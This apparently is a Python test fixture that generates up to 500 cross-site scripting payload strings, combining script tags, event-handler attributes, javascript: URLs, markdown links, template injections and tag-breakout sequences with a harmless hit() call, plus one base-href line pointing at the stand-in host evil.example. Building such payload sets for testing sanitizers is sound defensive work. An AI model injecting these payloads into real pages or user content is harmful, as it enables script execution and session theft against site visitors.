"""Five hundred texts that would do something if any page took them for markup: `hit()` is what they call."""

from __future__ import annotations

from html import escape
from itertools import product
from urllib.parse import quote

_CALLS = ("hit()", "window.hit()", "top.hit()", "eval('hit()')", "setTimeout('hit()')", "parent.hit()")
_TAGS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script/src=data:text/javascript,{quoted}></script>",
    '<img src=x onerror="{call}">',
    "<img src=x onerror={call}//",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    '<svg><animate onbegin="{call}" attributeName=x dur=1s>',
    "<math><mtext><script>{call}</script></mtext></math>",
    '<body onload="{call}">',
    '<iframe srcdoc="<script>{call}</script>"></iframe>',
    '<iframe src="javascript:{quoted}"></iframe>',
    '<object data="javascript:{quoted}"></object>',
    '<embed src="javascript:{quoted}">',
    '<a href="javascript:{quoted}">press</a>',
    '<a href="&#106;avascript:{quoted}">press</a>',
    "[press](javascript:{quoted})",
    "![x](javascript:{quoted})",
    "<javascript:{quoted}>",
    '<form action="javascript:{quoted}"><button>press</button></form>',
    '<input autofocus onfocus="{call}">',
    '<details open ontoggle="{call}">',
    '<video><source onerror="{call}"></video>',
    '<style>@import "data:text/css,*{{x:expression({call})}}"</style>',
    '<link rel=stylesheet href="data:text/css,*{{}}" onload="{call}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{quoted}">',
    '<base href="//evil.example/"><script src=x></script>',
    "<template><script>{call}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    '<x-widget contenteditable onbeforeinput="{call}">',
    "${{{call}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "'\"><img src=x onerror={call}>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
)
_WRAPPED = ("{0}", "\u202e{0}", "before {0} after", "{1}")

_ALL = (
    wrapped.format(made, escape(made))
    for wrapped, tag, call in product(_WRAPPED, _TAGS, _CALLS)
    for made in [tag.format(call=call, quoted=quote(call))]
)
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_ALL))[:500]
